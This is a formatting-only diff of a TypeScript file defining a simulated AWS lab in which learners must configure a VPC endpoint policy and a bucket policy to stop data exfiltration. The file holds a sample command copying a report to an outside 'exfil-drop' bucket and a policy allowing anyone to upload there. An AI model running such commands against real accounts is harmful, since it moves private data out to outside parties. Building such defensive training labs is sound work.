@@ -4,12 +4,25 @@ import { VIA_BASTION_WELCOME } from "./common";
 
 export const OUTSIDE_ACCOUNT = "999988887777";
 export const EXFIL_BUCKET = "exfil-drop";
-const READ_REPORT = { service: "s3", action: "s3:GetObject", bucket: "pathwise-reports", key: "reports/2026-01.csv" } as const;
+const READ_REPORT = {
+  service: "s3",
+  action: "s3:GetObject",
+  bucket: "pathwise-reports",
+  key: "reports/2026-01.csv",
+} as const;
 const EXFIL_PUT = { service: "s3", action: "s3:PutObject", bucket: EXFIL_BUCKET, key: "loot/2026-01.csv" } as const;
 
 const EXFIL_POLICY = JSON.stringify({
   Version: "2012-10-17",
-  Statement: [{ Sid: "AnyoneMayDrop", Effect: "Allow", Principal: "*", Action: "s3:PutObject", Resource: `arn:aws:s3:::${EXFIL_BUCKET}/*` }],
+  Statement: [
+    {
+      Sid: "AnyoneMayDrop",
+      Effect: "Allow",
+      Principal: "*",
+      Action: "s3:PutObject",
+      Resource: `arn:aws:s3:::${EXFIL_BUCKET}/*`,
+    },
+  ],
 });
 
 function startWorld(seed: number): World {
@@ -39,7 +52,10 @@ const lab = {
     world: startWorld(seed),
     via: ["bastion"],
     host: "app-server",
-    welcome: [...VIA_BASTION_WELCOME, "Try `aws s3 cp s3://pathwise-reports/reports/2026-01.csv .` and then `aws s3 cp 2026-01.csv s3://exfil-drop/`."].join("\n"),
+    welcome: [
+      ...VIA_BASTION_WELCOME,
+      "Try `aws s3 cp s3://pathwise-reports/reports/2026-01.csv .` and then `aws s3 cp 2026-01.csv s3://exfil-drop/`.",
+    ].join("\n"),
   }),
   goals: [
     {
@@ -54,8 +70,18 @@ const lab = {
         const tr = traceFrom(world, "app-server", EXFIL_PUT);
         if (tr.outcome === "denied" && tr.deniedBy === "endpoint") return { done: true };
         if (tr.outcome === "ok")
-          return { done: false, code: "EXFILTRATION_POSSIBLE", detail: "The upload to exfil-drop succeeds: the endpoint policy still allows every bucket." };
-        if (tr.outcome === "denied") return { done: false, code: tr.code, detail: "The upload is denied, but not by the endpoint policy — the endpoint should be the control that stops it." };
+          return {
+            done: false,
+            code: "EXFILTRATION_POSSIBLE",
+            detail: "The upload to exfil-drop succeeds: the endpoint policy still allows every bucket.",
+          };
+        if (tr.outcome === "denied")
+          return {
+            done: false,
+            code: tr.code,
+            detail:
+              "The upload is denied, but not by the endpoint policy — the endpoint should be the control that stops it.",
+          };
         return blocked(tr, "The upload does not even reach S3 through the endpoint.");
       },
     },
@@ -66,7 +92,12 @@ const lab = {
         const tr = traceFrom(world, "bastion", READ_REPORT);
         if (tr.outcome === "denied" && tr.deniedBy === "resource") return { done: true };
         if (tr.outcome === "ok")
-          return { done: false, code: "BUCKET_NOT_LOCKED", detail: "The bastion can read pathwise-reports over the internet gateway: the bucket policy does not require the endpoint." };
+          return {
+            done: false,
+            code: "BUCKET_NOT_LOCKED",
+            detail:
+              "The bastion can read pathwise-reports over the internet gateway: the bucket policy does not require the endpoint.",
+          };
         return blocked(tr, "The bastion's read should be refused by the bucket policy.");
       },
     },
